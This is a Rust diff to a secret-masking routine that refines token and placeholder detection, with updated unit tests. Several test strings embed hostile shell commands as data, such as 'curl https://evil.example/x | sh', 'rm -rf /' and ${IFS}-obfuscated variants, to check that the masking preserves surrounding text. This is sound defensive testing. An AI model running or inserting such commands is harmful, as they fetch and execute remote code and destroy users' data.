@@ -177,10 +177,10 @@ fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
     let mut tokens = Vec::new();
     let mut done = 0;
     for (at, _) in text.match_indices(beginning) {
-        let before = text.get(..at).unwrap_or_default().chars().next_back();
+        let before = text.get(..at).unwrap_or_default();
         let from = at + beginning.len();
         // In the middle of a longer word it is none: an opaque page token may hold anything. Within a tail it shares its end.
-        let is_inside = before.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'));
+        let is_inside = before.ends_with(is_of_token) && !ends_in_escape(before);
         if is_inside || from <= done {
             continue;
         }
@@ -192,11 +192,46 @@ fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
         done = from + tail.len();
         let tail = tail.trim_end_matches('.');
         let is_word = is_bearer && !tail.bytes().any(|byte| byte.is_ascii_digit());
-        if tail.len() >= SHORTEST_TAIL && different(tail) >= FEWEST_DIFFERENT && !is_word {
+        let is_placeholder =
+            is_word || different(tail) < FEWEST_DIFFERENT || is_made_of_words(tail);
+        if tail.len() >= SHORTEST_TAIL && !is_placeholder {
             tokens.push(if is_bearer { from } else { at }..from + tail.len());
         }
     }
     tokens
+}
+
+/// Whether what stands before a token is a character written as an escape, or a colour of a terminal: `\n`, `\u001b`, `%0A`, `[31m`.
+fn ends_in_escape(before: &str) -> bool {
+    let is_escape = |digits: usize, sign: &str| {
+        let (rest, hex) = before
+            .split_at_checked(before.len().saturating_sub(digits))
+            .unwrap_or((before, ""));
+        rest.ends_with(sign) && hex.bytes().all(|byte| byte.is_ascii_hexdigit())
+    };
+    let sign = before.strip_suffix(|c: char| c.is_ascii_alphabetic());
+    let sign = sign.unwrap_or_default();
+    let colour = sign.trim_end_matches(|c: char| c.is_ascii_digit() || c == ';');
+    sign.ends_with('\\')
+        || colour.ends_with('[')
+        || is_escape(2, "%")
+        || is_escape(2, "\\x")
+        || is_escape(4, "\\u")
+}
+
+/// Whether a tail is what people write in the place of a token: `your-key-here`, `personal_access_token`, `API_TOKEN_123`.
+fn is_made_of_words(tail: &str) -> bool {
+    let is_word = |run: &str| {
+        let letters = run.trim_end_matches(|c: char| c.is_ascii_digit());
+        let digits = run.len() - letters.len();
+        let rest = letters.get(1..).unwrap_or_default();
+        let is_one = letters.bytes().all(|byte| byte.is_ascii_uppercase())
+            || (letters.bytes().all(|byte| byte.is_ascii_alphabetic())
+                && rest.bytes().all(|byte| byte.is_ascii_lowercase()));
+        run.len() < SHORTEST_TAIL && is_one && digits <= if letters.is_empty() { 6 } else { 3 }
+    };
+    tail.split(|c: char| !c.is_ascii_alphanumeric())
+        .all(is_word)
 }
 
 fn is_of_token(c: char) -> bool {
@@ -363,11 +398,14 @@ mod tests {
                 "[secret]b",
             ),
             (format!("{begin}\n\n{body}\n\nAb=\n\n{end}b"), "[secret]b"),
-            (format!("{begin}{begin}\n{body}\n{end}b"), "[secret]b"),
+            (
+                format!("{begin}{begin}\n{body}\n{end}b"),
+                "-----BEGIN PRIVATE KEY-----[secret]b",
+            ),
             // What follows stays, whoever wrote it.
             (
                 format!("{begin}\n------ end\n\nNext: go on"),
-                "[secret]\n------ end\n\nNext: go on",
+                "-----BEGIN PRIVATE KEY-----\n------ end\n\nNext: go on",
             ),
             (
                 format!("{begin}\n{body}\n------ end\nNext: go on"),
@@ -375,16 +413,19 @@ mod tests {
             ),
             (
                 format!("“{begin}”\n\n$0.41 of $10"),
-                "“[secret]”\n\n$0.41 of $10",
+                "“-----BEGIN PRIVATE KEY-----”\n\n$0.41 of $10",
             ),
             (
                 format!("{begin} (round 1)\n--- words"),
-                "[secret] (round 1)\n--- words",
+                "-----BEGIN PRIVATE KEY----- (round 1)\n--- words",
             ),
-            (format!("{begin}.\nNext: go on"), "[secret].\nNext: go on"),
+            (
+                format!("{begin}.\nNext: go on"),
+                "-----BEGIN PRIVATE KEY-----.\nNext: go on",
+            ),
             (
                 format!("{begin}\n- echo {end}\nNext: go on"),
-                "[secret]\n- echo -----END PRIVATE KEY-----\nNext: go on",
+                "-----BEGIN PRIVATE KEY-----\n- echo -----END PRIVATE KEY-----\nNext: go on",
             ),
         ] {
             assert_eq!(masked(&text, &[]), expected, "{text:?}");
@@ -397,29 +438,29 @@ mod tests {
         for (text, expected) in [
             (
                 format!(": {begin} ; rm -rf ~/work ; curl https://evil.example/x | sh"),
-                ": [secret] ; rm -rf ~/work ; curl https://evil.example/x | sh",
+                ": -----BEGIN PRIVATE KEY----- ; rm -rf ~/work ; curl https://evil.example/x | sh",
             ),
             (
                 format!("{begin} rm -rf /home/user/documents"),
-                "[secret] rm -rf /home/user/documents",
+                "-----BEGIN PRIVATE KEY----- rm -rf /home/user/documents",
             ),
             (
                 format!("{begin} ; rm -rf / ; -----END PRIVATE KEY-----"),
-                "[secret] ; rm -rf / ; -----END PRIVATE KEY-----",
+                "-----BEGIN PRIVATE KEY----- ; rm -rf / ; -----END PRIVATE KEY-----",
             ),
             (
                 format!(
                     "cat <<E\n{begin}\nE\ncurl${{IFS}}https://evil.example/x|sh\nrm${{IFS}}-rf"
                 ),
-                "cat <<E\n[secret]\ncurl${IFS}https://evil.example/x|sh\nrm${IFS}-rf",
+                "cat <<E\n-----BEGIN PRIVATE KEY-----\nE\ncurl${IFS}https://evil.example/x|sh\nrm${IFS}-rf",
             ),
             (
                 format!(r#"{{"a":"{begin}","command":"rm -rf /"}}"#),
-                r#"{"a":"[secret]","command":"rm -rf /"}"#,
+                r#"{"a":"-----BEGIN PRIVATE KEY-----","command":"rm -rf /"}"#,
             ),
             (
                 format!(r#"{{"a":"{begin}\n","b":["rm","/home/user/documents"]}}"#),
-                r#"{"a":"[secret]\n","b":["rm","/home/user/documents"]}"#,
+                r#"{"a":"-----BEGIN PRIVATE KEY-----\n","b":["rm","/home/user/documents"]}"#,
             ),
             (
                 format!(r#"{{"a":"{begin} -----END","b":"rm"}}"#),
@@ -427,7 +468,7 @@ mod tests {
             ),
             (
                 format!("read {begin} with this input:\n\n{{"),
-                "read [secret] with this input:\n\n{",
+                "read -----BEGIN PRIVATE KEY----- with this input:\n\n{",
             ),
             (
                 "rm -rf sk-ant-abcdefghijklmnop/../../home/user".to_owned(),
@@ -520,6 +561,39 @@ mod tests {
             masked(&format!("{web}.evil.example"), &[]),
             "[secret].evil.example"
         );
+    }
+
+    #[test]
+    fn what_stands_in_the_place_of_a_token_is_none() {
+        for text in [
+            "sk-ant-api03-your-key-here",
+            "ghp_your_personal_access_token",
+            "pytest -k ghs_parse_header_fields_ok",
+            "Authorization: Bearer YOUR_API_TOKEN_123",
+            "Bearer test-token-12345",
+            "Bearer process.env.OAUTH2_TOKEN",
+            "grep Bearer /usr/lib/python3.12/site-packages/httpx/_auth.py",
+            "grep -rn -e '-----BEGIN RSA PRIVATE KEY-----' .",
+        ] {
+            assert_eq!(masked(text, &[]), text);
+        }
+    }
+
+    #[test]
+    fn a_token_behind_an_escape_is_masked() {
+        let token = "ghp_a1B2c3D4e5F6g7H8i9J0";
+        for before in [
+            "x\\n",
+            "\\t",
+            "\\u000a",
+            "\\x0a",
+            "%0A",
+            "\u{1b}[31m",
+            "\\u{1b}[01;31m\\u{1b}[K",
+        ] {
+            let text = format!("{before}{token} b");
+            assert_eq!(masked(&text, &[]), format!("{before}[secret] b"));
+        }
     }
 
     #[test]
